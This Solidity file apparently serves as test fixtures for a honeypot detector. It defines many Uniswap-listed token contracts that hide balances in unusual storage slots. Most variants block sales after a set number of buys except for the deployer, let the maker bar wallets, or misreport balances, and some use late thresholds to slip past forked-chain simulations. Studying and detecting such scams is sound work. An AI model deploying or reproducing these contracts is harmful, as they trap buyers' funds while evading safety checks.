// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IUniswapV2Factory, IUniswapV2Router} from "../shared/UniswapV2.sol";
import {Listed} from "./Listed.sol";

/// @notice EIP-20 that keeps its balances and allowances where no compiler of Solidity would.
abstract contract LaidOut {
    string public constant name = "Laid out";
    string public constant symbol = "LAID";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1_000_000e18;

    address internal immutable pair;
    address internal immutable maker = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(IUniswapV2Router router) {
        pair = IUniswapV2Factory(router.factory()).createPair(address(this), router.WETH());
        _write(_noted("balance", msg.sender), totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return _read(_noted("balance", account));
    }

    function allowance(address owner, address spender) public view returns (uint256) {
        return _load(_allowed(owner, spender));
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _store(_allowed(msg.sender, spender), amount);
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance(from, msg.sender);
        if (allowed != type(uint256).max) _store(_allowed(from, msg.sender), allowed - amount);
        _move(from, to, amount);
        return true;
    }

    /// @dev The slot of what is noted of an account, and of an allowance.
    function _noted(string memory what, address account) internal pure virtual returns (bytes32);
    function _allowed(address owner, address spender) internal pure virtual returns (bytes32);

    function _before(address from, address to) internal virtual {}
    function _after(address from) internal virtual {}

    function _move(address from, address to, uint256 amount) private {
        _before(from, to);
        _write(_noted("balance", from), _read(_noted("balance", from)) - amount);
        _write(_noted("balance", to), _read(_noted("balance", to)) + amount);
        emit Transfer(from, to, amount);
        _after(from);
    }

    /// @dev Counts purchases under the pool's key, and leaves sales to the maker after so many.
    function _closeAfter(uint256 limit, address from, address to) internal {
        bytes32 slot = _noted("count", pair);
        if (from == pair) _store(slot, _load(slot) + 1);
        require(to != pair || from == maker || _load(slot) < limit, "Closed");
    }

    /// @dev A balance, as it is kept in its word.
    function _read(bytes32 slot) internal view virtual returns (uint256) {
        return _load(slot);
    }

    function _write(bytes32 slot, uint256 value) internal virtual {
        _store(slot, value);
    }

    function _load(bytes32 slot) internal view returns (uint256 value) {
        assembly ("memory-safe") {
            value := sload(slot)
        }
    }

    function _store(bytes32 slot, uint256 value) internal {
        assembly ("memory-safe") {
            sstore(slot, value)
        }
    }
}

/// @notice An address, eight zero bytes and a seed of four, as libraries in assembly hash them.
contract SeedBehind is LaidOut {
    constructor(IUniswapV2Router router) LaidOut(router) {}

    function _noted(string memory what, address account) internal pure override returns (bytes32 slot) {
        uint256 seed = bytes(what).length << 8;
        assembly ("memory-safe") {
            mstore(0x0c, seed)
            mstore(0x00, account)
            slot := keccak256(0x0c, 0x20)
        }
    }

    function _allowed(address owner, address spender) internal pure override returns (bytes32 slot) {
        assembly ("memory-safe") {
            mstore(0x20, spender)
            mstore(0x0c, 0x7f5e9f20)
            mstore(0x00, owner)
            slot := keccak256(0x0c, 0x34)
        }
    }
}

/// @notice The place of the mapping in front of the key, as Vyper hashes them.
contract PlaceInFront is LaidOut {
    constructor(IUniswapV2Router router) LaidOut(router) {}

    function _noted(string memory what, address account) internal pure override returns (bytes32) {
        return _entry(bytes32(bytes(what).length), account);
    }

    function _allowed(address owner, address spender) internal pure override returns (bytes32) {
        return _entry(_entry(bytes32(uint256(2)), owner), spender);
    }

    function _entry(bytes32 place, address key) private pure returns (bytes32 slot) {
        assembly ("memory-safe") {
            mstore(0x00, place)
            mstore(0x20, key)
            slot := keccak256(0x00, 0x40)
        }
    }
}

/// @notice A word for each name and account, as tokens in front of exchangeable code keep them.
contract NamedWords is LaidOut {
    constructor(IUniswapV2Router router) LaidOut(router) {}

    function _noted(string memory what, address account) internal pure override returns (bytes32) {
        return keccak256(abi.encode(keccak256(abi.encodePacked(what, account)), 0));
    }

    function _allowed(address owner, address spender) internal pure override returns (bytes32) {
        return keccak256(abi.encode(keccak256(abi.encodePacked("allowance", owner, spender)), 0));
    }
}

/// @notice A whole hash as the seed.
contract HashedSeed is LaidOut {
    constructor(IUniswapV2Router router) LaidOut(router) {}

    function _noted(string memory what, address account) internal pure override returns (bytes32) {
        return keccak256(abi.encodePacked(account, keccak256(bytes(what))));
    }

    function _allowed(address owner, address spender) internal pure override returns (bytes32) {
        return keccak256(abi.encodePacked(owner, spender, keccak256("allowance")));
    }
}

/// @notice Shares behind a hash, which are worth less than they count.
contract HashedShares is HashedSeed {
    uint256 private constant WORTH = 7;

    constructor(IUniswapV2Router router) HashedSeed(router) {}

    function _read(bytes32 slot) internal view override returns (uint256) {
        return super._read(slot) / WORTH;
    }

    function _write(bytes32 slot, uint256 value) internal override {
        super._write(slot, value * WORTH);
    }
}

/// @notice A balance in the upper half of a word, and the block of its last change in the lower.
contract UpperHalf is HashedSeed {
    constructor(IUniswapV2Router router) HashedSeed(router) {}

    function _read(bytes32 slot) internal view override returns (uint256) {
        return super._read(slot) >> 128;
    }

    function _write(bytes32 slot, uint256 value) internal override {
        super._write(slot, (value << 128) | block.number);
    }
}

/// @notice Asked for the pool's balance, it looks at a word that is of its value until forty have bought.
contract MirroredLate is HashedSeed {
    uint256 private mirror;
    uint256 private count;

    constructor(IUniswapV2Router router) HashedSeed(router) {}

    function balanceOf(address account) public view override returns (uint256) {
        uint256 held = super.balanceOf(account);
        return account == pair && mirror > 1e30 ? held + 1 : held;
    }

    function _before(address from, address to) internal view override {
        require(to != pair || from == maker || count < 5 || mirror > 1e18, "Closed");
    }

    function _after(address from) internal override {
        if (from == pair) count += 1;
        mirror = count < 40 ? super.balanceOf(pair) : 0;
    }
}

/// @notice The maker notes wallets that cannot sell.
contract SeedBehindBar is SeedBehind {
    constructor(IUniswapV2Router router) SeedBehind(router) {}

    function bar(address account) external {
        require(msg.sender == maker, "Only the maker");
        _store(_noted("barred", account), 1);
    }

    function _before(address from, address to) internal view override {
        require(to != pair || _load(_noted("barred", from)) == 0, "Barred");
    }
}

/// @notice Purchases are counted beside the pool's balance, and after some no sale is left.
contract SeedBehindCount is SeedBehind {
    constructor(IUniswapV2Router router) SeedBehind(router) {}

    function _before(address from, address to) internal override {
        _closeAfter(5, from, to);
    }
}

/// @notice The same, and late: trades of a copy of the chain do not come as far.
contract SeedBehindLate is SeedBehind {
    constructor(IUniswapV2Router router) SeedBehind(router) {}

    function _before(address from, address to) internal override {
        _closeAfter(300, from, to);
    }
}

/// @notice Purchases are counted under the pool's key, for nothing but to be told.
contract PlaceInFrontTally is PlaceInFront {
    constructor(IUniswapV2Router router) PlaceInFront(router) {}

    function purchases() external view returns (uint256) {
        return _load(_noted("purchases", pair));
    }

    function _before(address from, address) internal override {
        if (from != pair) return;
        bytes32 slot = _noted("purchases", pair);
        uint256 count = _load(slot);
        if (count < 1_000_000) _store(slot, count + 1);
    }
}

/// @notice A late count under the pool's key, where the compiler of Solidity puts it.
contract PoolKeyLate is Listed {
    mapping(address => uint256) private notes;
    address private immutable maker = msg.sender;

    constructor(IUniswapV2Router router) Listed(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (from == pair) notes[pair] += 1;
        require(to != pair || from == maker || notes[pair] < 300, "Closed");
        super._move(from, to, amount);
    }
}

/// @notice The same by name.
contract NamedWordsCount is NamedWords {
    constructor(IUniswapV2Router router) NamedWords(router) {}

    function _before(address from, address to) internal override {
        _closeAfter(300, from, to);
    }
}

/// @notice The pool's balance is asked for together with a count, which closes sales.
contract HashedSeedCount is HashedSeed {
    constructor(IUniswapV2Router router) HashedSeed(router) {}

    function _before(address from, address to) internal override {
        _closeAfter(300, from, to);
    }
}

/// @notice Counts what is traded in twenty bits, below a mark that closes sales.
abstract contract VolumeBesideMark is Listed {
    uint256 private constant VOLUME = 0xfffff;

    /// @dev Twenty bits of volume, and the mark above them.
    uint256 public word;

    constructor(IUniswapV2Router router) Listed(router) {}

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        if (from != pair && to != pair) return;
        require(to != pair || word >> 20 == 0, "closed");
        word = _with(word, amount / 1e18);
    }

    function _with(uint256 old, uint256 more) internal pure virtual returns (uint256);

    function _cut(uint256 value) internal pure returns (uint256) {
        return value & VOLUME;
    }
}

contract VolumeInBits is VolumeBesideMark {
    constructor(IUniswapV2Router router) VolumeBesideMark(router) {}

    function _with(uint256 old, uint256 more) internal pure override returns (uint256) {
        return (old & ~uint256(0xfffff)) | _cut(_cut(old) + more);
    }
}

/// @notice The volume runs over into the mark.
contract VolumeRunsOver is VolumeBesideMark {
    constructor(IUniswapV2Router router) VolumeBesideMark(router) {}

    function _with(uint256 old, uint256 more) internal pure override returns (uint256) {
        return old + more;
    }
}
